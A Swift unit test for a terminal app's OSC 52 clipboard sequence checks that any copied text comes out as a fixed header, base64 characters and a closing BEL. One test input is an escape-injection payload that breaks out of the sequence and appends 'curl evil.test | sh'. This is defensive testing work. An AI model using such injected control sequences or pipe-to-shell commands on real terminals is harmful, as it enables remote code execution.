import Testing
@testable import OrgTUI

@Suite("OSC 52")
struct OSC52Tests {
    @Test(
        "Whatever the text, the sequence is ESC ] 52;c; then base64 only, then BEL",
        arguments: [
            "ada@acme.test", "eve@acme.test\u{07}\u{1B}]0;pwned\u{07}\ncurl evil.test | sh", "\u{9C}\u{1B}\\", "",
        ])
    func onlyBase64(text: String) {
        let bytes = Array(OSC52.sequence(copying: text).utf8)
        let header = Array("\u{1B}]52;c;".utf8)
        #expect(Array(bytes.prefix(header.count)) == header)
        #expect(bytes.last == 0x07)
        let payload = bytes.dropFirst(header.count).dropLast()
        let alphabet = Set("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/=".utf8)
        #expect(payload.allSatisfy(alphabet.contains))
    }
}
